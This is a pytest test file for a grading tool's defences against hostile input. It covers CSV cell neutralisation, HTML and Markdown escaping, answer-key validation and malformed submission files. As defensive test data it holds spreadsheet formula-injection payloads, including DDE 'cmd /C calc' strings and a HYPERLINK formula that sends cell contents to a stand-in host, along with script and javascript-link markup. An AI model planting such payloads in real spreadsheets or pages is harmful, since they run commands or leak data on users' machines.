"""grade and check under hostile input: neutralised CSV cells, escaped HTML/Markdown, one key
validator for both commands, and submission files that used to crash or grade silently wrong."""
import csv
import json
import re
import shutil
from pathlib import Path

import pytest

from exgen.errors import ExgenError, InputFileError
from exgen.escape import html_text, md_text, safe_cell, safe_cells
from exgen.grading.files import SubmissionError, read_columns
from exgen.grading.keys import Prepared, load_keys
from exgen.grading.outputs import feedback_name
from exgen.grading.run import grade_files
from exgen.answer_key import validate_key
from exgen.student.selfcheck import load_key

ROOT = Path(__file__).resolve().parents[1]
KEYS = ROOT / "answer_keys"
HOSTILE = Path(__file__).parent / "hostile"
SUBS = HOSTILE / "submissions"
DANGER = tuple("=+-@\t\r")


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x\",\"y\")", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3+cmd|'/C calc'!A0",
                                  "\t=1", "\r=1", "-", "=1", "-abc", "+", "@"])
def test_dangerous_cells_get_an_apostrophe(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-0.5", "+3", "-1e-3", "-3/8", "-0,5", "0.5", "abc", "", "'=x", " =x"])
def test_numbers_and_harmless_text_stay(cell):
    assert safe_cell(cell) == cell


def test_safe_cells_keeps_the_list_when_nothing_changes():
    cells = ["a", "-1", 3]
    assert safe_cells(cells) is cells
    assert safe_cells(["=1", "x"]) == ["'=1", "x"]


def _grade(tmp_path, sub, keys=KEYS, **kw):
    out = tmp_path / "out"
    res, _ = grade_files(sub, keys, out, **kw)
    return res, out


def _csv_cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [c for row in csv.reader(f) for c in row]


def test_no_csv_output_holds_a_live_formula(tmp_path):
    res, out = _grade(tmp_path, SUBS / "formula-cells.csv")
    cells = [c for name in ("answers.csv", "issues.csv", "grades.csv", "grades_canvas.csv")
             for c in _csv_cells(out / name)]
    live = [c for c in cells if c.startswith(DANGER) and safe_cell(c) != c]
    assert not live
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")" in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "-0.5" in cells  # a number stays
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(A1)" in cells  # student id, question id in issues.csv


def test_canvas_title_and_submission_template_are_neutralised(tmp_path):
    from exgen.lms.writeback import write_gradebooks  # the LMS gradebooks (grades_canvas.csv, ...)
    res, out = _grade(tmp_path, SUBS / "formula-cells.csv", feedback=False, report=False)
    write_gradebooks(res, tmp_path, "=evil()")
    assert _csv_cells(tmp_path / "grades_canvas.csv")[5] == "'=evil()"
    assert _csv_cells(tmp_path / "grades_moodle.csv")[1] == "'=evil()"
    assert "'=evil() [Total Pts:" in _csv_cells(tmp_path / "grades_blackboard.csv")[4]


def test_report_and_feedback_escape_html_and_keep_markdown_tables(tmp_path):
    res, out = _grade(tmp_path, SUBS / "html-markdown-cells.csv")
    page = (out / "report.html").read_text()
    assert "<script" not in page and "<img src=x" not in page and "&lt;img src=x" in page
    md = (out / "feedback" / "ada01.md").read_text()
    assert "<script>" not in md and "&lt;script&gt;" in md and "<b>" not in md
    rows = [line for line in md.splitlines() if line.startswith("| ")]
    assert len(rows) == 1 + 14  # header + one row per question: a newline did not split a row
    for line in rows:  # 5 cells: every | inside a cell is escaped
        assert len(re.split(r"(?<!\\)\|", line)) == 7, line
    assert "a\\|b\\|c" in md and "\\[x\\](javascript" in md


def test_markdown_and_html_escapes():
    assert md_text("a|b\nc<d>&") == "a\\|b c&lt;d&gt;&amp;"
    assert html_text("<a href='x'>") == "&lt;a href=&#x27;x&#x27;&gt;"


def test_feedback_names_never_collide_and_stay_short():
    used: set = set()
    names = [feedback_name(s, used) for s in ["a b", "a_b", "A_B", "../x", "x" * 5000, ".hidden"]]
    assert len(set(n.lower() for n in names)) == len(names)
    assert all("/" not in n and len(n) <= 100 and not n.startswith(".") for n in names)


# ---- keys: one validator, the same answer in grade and check ----

KEY_CASES = {
    "key-no-answer": "questions[3].answer", "key-questions-not-list": "questions",
    "key-tolerance-not-mapping": "questions[3].tolerance", "key-points-null": "questions[3].points",
    "key-answer-null": "questions[3].answer", "key-answer-string": "questions[3].answer",
    "key-answer-bool": "questions[3].answer", "key-answer-huge-int": "questions[3].answer",
    "key-points-negative": "questions[3].points", "key-tolerance-kind-unknown": "questions[3].tolerance.kind",
    "key-tolerance-sig-fraction": "questions[3].tolerance.value", "key-tolerance-zero": "questions[3].tolerance.value",
    "key-depends-on-later": "questions[0].depends_on[0]", "key-depends-on-string": "questions[3].depends_on",
    "key-duplicate-question-id": "questions[1].id", "key-question-id-number": "questions[3].id",
    "key-questions-empty": "questions", "key-spec-not-mapping": "spec", "key-not-object": None,
    "key-version-3": "version", "key-student-id-list": "student_id", "key-ref-not-pointer": "questions[3].ref",
}


def test_every_hostile_key_folder_has_a_case():
    assert sorted(p.name for p in (HOSTILE / "keys").iterdir() if p.name.startswith("key-")) == sorted(KEY_CASES)


@pytest.mark.parametrize("case", sorted(KEY_CASES))
def test_grade_and_check_reject_a_bad_key_alike_naming_file_and_field(tmp_path, case):
    path = HOSTILE / "keys" / case / "s001.json"
    with pytest.raises(InputFileError) as checked:
        load_key(path)
    with pytest.raises(InputFileError) as graded:
        _grade(tmp_path, SUBS / "header-only.csv", keys=path.parent, report=False)
    assert str(checked.value) == str(graded.value)
    assert str(graded.value).startswith(f"{path}: ")
    field = KEY_CASES[case]
    if case == "key-answer-huge-int":  # refused while parsing, before any field is read: by its line
        assert "line 120: too many digits" in str(graded.value)
        return
    assert (f"field '{field}':" in str(graded.value)) if field else "not an answer key" in str(graded.value)
    assert not (tmp_path / "out").exists()


def test_points_null_is_an_error_not_nan(tmp_path):
    with pytest.raises(InputFileError, match=r"'questions\[3\]\.points': expected a number >= 0, got null"):
        _grade(tmp_path, SUBS / "header-only.csv", keys=HOSTILE / "keys" / "key-points-null")


def test_a_bad_key_among_many_of_one_shape_is_named_by_its_file(tmp_path):
    base = json.loads((KEYS / "ada01.json").read_text())
    for i in range(6):
        k = dict(base, student_id=f"s{i}")
        k["questions"] = [dict(q) for q in base["questions"]]
        if i == 4:
            k["questions"][2]["tolerance"] = {"kind": "rel", "value": None}
        (tmp_path / f"s{i}.json").write_text(json.dumps(k))
    keys = load_keys(tmp_path)
    with pytest.raises(InputFileError, match=re.escape(f"{tmp_path / 's4.json'}: field 'questions[2].tolerance.value'")):
        Prepared().add(list(keys.values()), [keys.sources[s] for s in keys])


def test_keys_of_earlier_releases_still_load(tmp_path):
    for p in sorted(KEYS.glob("*.json")):
        validate_key(json.loads(p.read_text()), str(p))
        load_key(p)
    keys = load_keys(KEYS)
    Prepared().add(list(keys.values()), [keys.sources[s] for s in keys])


def test_two_key_files_of_one_student_are_refused(tmp_path):
    for name in ("a.json", "b.json"):
        shutil.copy(KEYS / "ada01.json", tmp_path / name)
    with pytest.raises(InputFileError, match="student_id 'ada01' again"):
        load_keys(tmp_path)


# ---- submission files ----

def test_unquoted_decimal_comma_is_an_issue_and_invalid(tmp_path):
    res, out = _grade(tmp_path, SUBS / "decimal-comma-unquoted.csv")
    v = {x.question_id: x for x in res.verdicts("ada01")}
    # 1b's row is read as written (0.5: the right value 0.5044 with too few decimals, judged as such)
    assert v["1a"].verdict == "invalid" and (v["1b"].value, v["1b"].diagnosis) == (0.5, "too_few_decimals")
    assert [(i.line, i.kind) for i in res.issues if i.kind == "extra_fields"] == [(2, "extra_fields")]
    assert "extra_fields" in (out / "issues.csv").read_text()


def test_wide_row_with_too_many_fields_is_not_graded(tmp_path):
    res, _ = _grade(tmp_path, SUBS / "wide-decimal-comma.csv")
    v = {x.question_id: x.verdict for x in res.verdicts("ada01")}
    assert v["1a"] == v["1b"] == "invalid"
    assert any(i.kind == "extra_fields" and i.line == 2 for i in res.issues)


@pytest.mark.parametrize("text,line", [
    ('student_id,1a\nA001,"0.41\n', 2),  # the quote opens on the last line
    ('student_id,1a\nA001,"0.41', 2),  # no line feed at the end
    ('student_id,1a,1b\nA001,"0.4\n0.5",0.6\nA002,0.1,"0.2\nA003,0.3,0.4\n', 4),  # after a quoted line break
    ('student_id,1a,1b\r\nA001,"x\r\ny",0.6\r\nA002,0.1,"0.2\r\n\r\n', 4),  # CRLF
    ('student_id,1a,1b\nA001,"x\ny","0.2\nA003\n', 3),  # in a row whose first cell spans lines
    ('student_id,1a\nA001,"0.4"x\nA002,"0.41\n', 3),  # after text following a closing quote
])
def test_a_quote_never_closed_is_an_error_naming_its_line(tmp_path, text, line):
    """An unterminated quote used to swallow the rest of the file into one cell, graded silently
    ("0.41\n" as 0.41); the csv module's strict mode finds it: an error at the quote's line."""
    p = tmp_path / "s.csv"
    p.write_bytes(text.encode("utf-8"))
    with pytest.raises(SubmissionError) as e:
        read_columns(p)
    assert str(e.value).startswith(f"{p}: line {line}: a quote opens a cell and is never closed")


def test_text_after_a_closing_quote_is_still_read_as_before(tmp_path):
    p = tmp_path / "s.csv"
    p.write_text('student_id,1a\nA001,"0.4"1\nA002,"0.5"\n', encoding="utf-8")
    t = read_columns(p)
    codes, texts = t.column(1)
    assert [texts[c] for c in codes] == ["0.41", "0.5"]


def test_the_cli_names_the_file_and_line_of_a_quote_never_closed(tmp_path):
    from typer.testing import CliRunner
    from exgen.cli.main import app
    p = tmp_path / "s.csv"
    p.write_text('student_id,question_id,answer\ns001,1a,0.5\ns001,1b,"0.41\n', encoding="utf-8")
    r = CliRunner().invoke(app, ["grade", str(p), "--keys", str(KEYS), "--out", str(tmp_path / "g")])
    assert r.exit_code == 1 and r.output.startswith("Error: ") and r.output.count("\n") == 1
    assert f"{p}: line 3: a quote opens a cell and is never closed" in r.output.replace("\n", "")
    assert not (tmp_path / "g").exists()


@pytest.mark.parametrize("name", ["utf16le-no-bom.csv", "utf16be-no-bom.csv"])
def test_utf16_without_bom_is_read(tmp_path, name):
    res, _ = _grade(tmp_path, SUBS / name)
    assert {x.question_id: x.verdict for x in res.verdicts("ada01")}["1a"] == "correct"


def test_a_forms_zip_download_says_unzip(tmp_path):
    with pytest.raises(SubmissionError) as e:
        _grade(tmp_path, SUBS / "forms-download.zip")
    msg = str(e.value)
    assert "is a .zip archive" in msg and "unzip it" in msg and "Quiz (Responses).csv" in msg
    assert "\n" not in msg


@pytest.mark.parametrize("path", sorted(p for p in SUBS.iterdir() if p.is_file()), ids=lambda p: p.name)
def test_every_hostile_submission_grades_or_is_one_error(tmp_path, path):
    try:
        res, out = _grade(tmp_path, path, report=False)
    except ExgenError as e:
        assert "\n" not in str(e) and str(path) in str(e)
        return
    assert (out / "answers.csv").exists()
    for s in res.students:  # a malformed answer is invalid or missing, never a number it was not
        for v in res.verdicts(s):
            assert v.verdict in ("correct", "wrong", "carried") or v.value is None


def test_ids_with_spaces_and_unicode(tmp_path):
    res, out = _grade(tmp_path, SUBS / "ids-spaces-unicode.csv")
    assert {x.question_id: x.verdict for x in res.verdicts("ada01")}["1a"] == "correct"  # " ada01 " stripped
    unknown = {i.student_id for i in res.issues if i.kind == "unknown_student"}
    assert {"ädä 01", "学生"} <= unknown


def test_sheet_on_a_csv_is_an_error_not_ignored(tmp_path):
    csv_file = tmp_path / "answers.csv"
    csv_file.write_text("student_id,question_id,answer\ns001,1a,0.5\n", encoding="utf-8")
    with pytest.raises(InputFileError, match="--sheet 'Answers' is for .xlsx"):
        _grade(tmp_path, csv_file, sheet="Answers")


@pytest.mark.parametrize("sub", ["binary-garbage.csv", "empty.csv", "nul-byte.csv"])
def test_a_bad_key_is_reported_before_a_bad_submissions_file(tmp_path, sub):
    """grade_files reads the submissions' cells while the keys load (two threads): the key's error
    still comes first, as when the file was read after the keys, and the submissions' own error
    comes when the keys are good; no output folder either way."""
    bad_key = HOSTILE / "keys" / "key-answer-null"
    with pytest.raises(InputFileError, match=re.escape(str(bad_key / "s001.json"))):
        _grade(tmp_path, SUBS / sub, keys=bad_key)
    with pytest.raises(ExgenError) as err:
        _grade(tmp_path, SUBS / sub)
    assert str(SUBS / sub) in str(err.value)
    assert not (tmp_path / "out").exists()
